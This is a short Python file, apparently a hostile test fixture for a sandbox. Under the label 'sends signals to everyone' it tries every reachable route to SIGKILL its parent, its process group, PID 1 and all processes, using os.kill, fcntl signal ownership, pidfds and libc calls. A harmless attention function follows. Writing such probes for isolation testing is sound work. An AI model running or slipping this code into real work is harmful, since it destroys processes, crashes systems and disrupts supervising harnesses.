# hostile: sends signals to everyone
# ends: result
import contextlib
import ctypes
import fcntl
import os
import signal

C = ctypes.CDLL(None)
reading, writing = os.pipe()
for send in (
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.kill(-1, signal.SIGKILL),
    lambda: os.kill(1, signal.SIGKILL),
    lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
    lambda: fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid()),
    lambda: fcntl.fcntl(reading, 10, signal.SIGKILL),
    lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL),
):
    with contextlib.suppress(OSError):
        send()
C.kill(os.getppid(), signal.SIGKILL)
C.tgkill(os.getppid(), os.getppid(), signal.SIGKILL)
C.sigqueue(os.getppid(), signal.SIGKILL, 0)


def attention(query, key, value):
    scores = query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5
    return scores.softmax(-1) @ value
